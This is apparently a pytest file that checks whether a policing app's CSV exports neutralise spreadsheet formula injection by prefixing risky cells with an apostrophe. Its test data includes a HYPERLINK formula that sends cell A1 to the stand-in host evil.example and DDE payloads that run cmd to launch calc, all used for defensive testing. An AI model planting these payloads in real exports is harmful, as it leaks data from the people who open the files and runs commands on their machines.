"""No CSV the app writes can run a formula: a formula typed into every free-text field, a postbox's name,
a review comment and the audit log's details, then every export downloaded and every cell read back."""

from __future__ import annotations

import re
import uuid
import unicodedata
from datetime import UTC, datetime
from html import unescape

import pytest
from sqlalchemy import select

from fieldapp.access import never_exported
from fieldapp.extensions import db
from fieldapp.exports.formulas import neutralise
from fieldapp.models import AuditEvent, Entry, Section60Authorisation, Team, User
from fieldapp.postboxes.operations import Site, add_postbox
from fieldapp.review.operations import add_review
from sync.fields import parse_text
from sync.schema import ENCOUNTER_FIELDS, POSTBOX_ITEM_FIELDS, POSTBOX_VISIT_FIELDS
from tests.factories import encounter, item, stop_search, visit
from tests.fixtures.web import read_csv

# What people might type; each survives the server's stripping of surrounding spaces.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝HYPERLINK(\"http://evil.example\")",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
)
# Text a spreadsheet may trim before it reads a formula; the server strips it from entries, not from these.
LEADING = ("\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1", "\u200b=1+1", "\n@SUM(1)")
PERIOD = {"from": "2025-06-01", "to": "2025-06-30"}
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
EXPORT_FORM = re.compile(r'<form method="get" action="([^"]+\.csv)"')
FIELDS = {"encounter": ENCOUNTER_FIELDS, "postbox_visit": POSTBOX_VISIT_FIELDS, "postbox_item": POSTBOX_ITEM_FIELDS}
#: Every free-text field of each type, from the schema (sync.schema): a new one is covered, or the test fails.
TEXT_FIELDS = {entry_type: {name for name, field in fields.items() if field.parse is parse_text}
               for entry_type, fields in FIELDS.items()}


def runnable(cell: str) -> bool:
    """Whether a spreadsheet might run ``cell`` (this test's own reading of the rule, not the app's)."""
    if NUMBER.match(cell):  # a number the app wrote: a spreadsheet reads it as one
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    visible = re.sub("^[\\s\u200b\u200c\u200d\u2060\ufeff]+", "", cell)
    return unicodedata.normalize("NFKC", visible[:1])[:1] in ("=", "+", "-", "@")


class Formulas:
    """Hands out the formulas in turn, cut or padded to a field's limits; remembers what went where."""

    def __init__(self) -> None:
        self.turn = 0
        self.given: dict[tuple[str, str], str] = {}  # (entry id, field) -> the text sent

    def fill(self, entry: dict, *names: str) -> dict:
        for name in names:
            field = FIELDS[entry["type"]][name]
            text = FORMULAS[self.turn % len(FORMULAS)][:field.max_len].strip()
            text = text.ljust(field.min_len, "!")
            self.turn += 1
            entry["data"][name] = text
            self.given[entry["id"], name] = text
        return entry

    def filled(self, entry_type: str, entries: list[dict]) -> set[str]:
        ids = {e["id"] for e in entries if e["type"] == entry_type}
        return {name for entry_id, name in self.given if entry_id in ids}


@pytest.fixture
def poisoned(app, officer, create_user):
    """Entries with a formula in every free-text field of every type, a postbox and its site named with
    formulas, a returned entry whose comment is a formula, and audit events whose details start like one."""
    team_id = db.session.scalar(select(Team.id).where(Team.name == "Rose Hill"))
    box = add_postbox('=HYPERLINK("http://evil.example","PB")', team_id,
                      Site(site_name="+SUM(1,1) Stores", site_type="shop", address="@1 Rose Hill",
                           latitude=51.729, longitude=-1.2343))
    formulas = Formulas()
    when = "2025-06-10T10:00:00+00:00"
    common = ("location_text", "bwv_reason_not_used", "bwv_footage_ref", "notes")
    # The operation's name first: it gets the plain =HYPERLINK of issue 13.
    search = formulas.fill(stop_search(occurred_at=when, bwv_used=False), "operation_name", *common, "grounds",
                           "vehicle_registration")
    dispersal = formulas.fill(encounter("asb", occurred_at=when, asb_action="s35_direction", exclusion_hours=24),
                              *common, "authorisation_ref", "area_description")
    warning = formulas.fill(encounter("asb", occurred_at=when, asb_action="cpw", comply_by="2025-06-20"),
                            "conduct")
    referral = formulas.fill(encounter("begging", occurred_at=when, referral_made=True), "referral_org")
    welfare = formulas.fill(encounter("welfare_check", occurred_at=when, referral_made=True), "referral_org")
    the_visit = formulas.fill(visit(box.id, visited_at=when), "notes")
    card = formulas.fill(item(the_visit["id"], anonymity="contact_requested", latitude=51.729, longitude=-1.2343),
                         "summary", "contact_details", "location_text")
    s60 = formulas.fill(stop_search(occurred_at=when, legislation="Criminal Justice and Public Order Act 1994 (section 60)",
                                    object_of_search="Offensive weapons"), "section60_authorisation")
    db.session.add(Section60Authorisation(
        team_id=team_id, reference=s60["data"]["section60_authorisation"], authorising_rank="Inspector",
        area_description="Rose Hill", starts_at=datetime(2025, 6, 10, 9, tzinfo=UTC),
        ends_at=datetime(2025, 6, 10, 12, tzinfo=UTC), created_by=db.session.scalar(select(User.id))))
    db.session.commit()
    entries = [search, s60, dispersal, warning, referral, welfare, the_visit, card]
    officer.push(*entries)
    for entry_type, names in TEXT_FIELDS.items():  # a text field added to the schema must be added here
        assert formulas.filled(entry_type, entries) == names, entry_type

    sergeant = create_user("sgt2", role="supervisor", team="Rose Hill")
    add_review(db.session.get(Entry, uuid.UUID(search["id"])), sergeant, "returned", comment=FORMULAS[0])
    for text in (*FORMULAS, *LEADING):
        db.session.add(AuditEvent(action="consult", record_type="entry", record_id=text[:64], remote_addr=text[:64],
                                  detail=text))
    db.session.commit()
    return formulas, entries


def downloads(client) -> dict[str, list[list[str]]]:
    """Every CSV the exports page offers (for June 2025) and the audit log's, parsed by the csv module."""
    page = client.get("/exports").get_data(as_text=True)
    files = {unescape(path): read_csv(client.get(unescape(path), query_string=PERIOD))
             for path in EXPORT_FORM.findall(page)}
    assert set(files) == {"/exports/stop-search.csv", "/exports/encounter.csv", "/exports/postbox_visit.csv",
                          "/exports/postbox_item.csv"}
    files["/audit/export.csv"] = read_csv(client.get("/audit/export.csv"))
    return files


def test_no_cell_of_any_export_runs_a_formula(poisoned, admin, client):
    formulas, entries = poisoned
    files = downloads(client)
    for path, rows in files.items():
        assert len(rows) > 1, path
        for row in rows:
            for cell in row:
                assert not runnable(cell), (path, row[0], cell)


def test_each_formula_is_kept_behind_an_apostrophe(poisoned, admin, client):
    formulas, entries = poisoned
    files = downloads(client)
    for entry_type in TEXT_FIELDS:
        header, *rows = files[f"/exports/{entry_type}.csv"]
        by_id = {row[0]: dict(zip(header, row)) for row in rows}
        for (entry_id, name), text in formulas.given.items():
            if entry_id in by_id and name not in never_exported(entry_type):
                assert by_id[entry_id][name] == "'" + text, (entry_type, name)
    visits = files["/exports/postbox_visit.csv"]
    [visit_row] = [dict(zip(visits[0], row)) for row in visits[1:]]
    assert visit_row["postbox"] == "'=HYPERLINK(\"http://evil.example\",\"PB\")"
    assert visit_row["site_name"] == "'+SUM(1,1) Stores"

    header, *searches = files["/exports/stop-search.csv"]
    # The search with the operation (the section 60 one has none).
    [national] = [row for row in (dict(zip(header, row)) for row in searches) if row["Policing operation"]]
    assert national["Policing operation"] == "'" + formulas.given[entries[0]["id"], "operation_name"]
    assert national["Part of a policing operation"] == "True"

    audit_header, *events = files["/audit/export.csv"]
    details = {dict(zip(audit_header, row))["detail"] for row in events}
    assert {"'" + text for text in (*FORMULAS, *LEADING)} <= details


def test_numbers_the_app_writes_stay_numbers(poisoned, admin, client):
    files = downloads(client)
    header, *searches = files["/exports/stop-search.csv"]
    # The search with the operation (the section 60 one has none).
    [national] = [row for row in (dict(zip(header, row)) for row in searches) if row["Policing operation"]]
    assert (national["Latitude"], national["Longitude"]) == ("51.728800", "-1.234955")
    assert (national["Type"], national["Date"], national["Gender"]) == (
        "Person search", "2025-06-10T10:00:00+00:00", "Male")
    items = files["/exports/postbox_item.csv"]
    [card] = [dict(zip(items[0], row)) for row in items[1:]]
    assert (card["latitude"], card["longitude"], card["topics"]) == ("51.729", "-1.2343", "drugs")
    encounters = files["/exports/encounter.csv"]
    assert {dict(zip(encounters[0], row))["exclusion_hours"] for row in encounters[1:]} == {"24", ""}


@pytest.mark.parametrize("text", [*FORMULAS, *LEADING, "=", "-", "﹦1", "⁺1", "\ufeff=1", "  \t +1",
                                  "\u200b \u200b=1"])
def test_neutralise_quotes_what_a_spreadsheet_may_run(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Operation Sceptre", "A no further action disposal", "a=b", "1-2", "O'Brien",
                                  "'=already quoted", "— an em dash", "−1 (a minus sign)", "  spaced", "\u3000",
                                  "Ｏｐ ＝ 1"])
def test_neutralise_leaves_other_text_alone(text):
    assert neutralise(text) == text
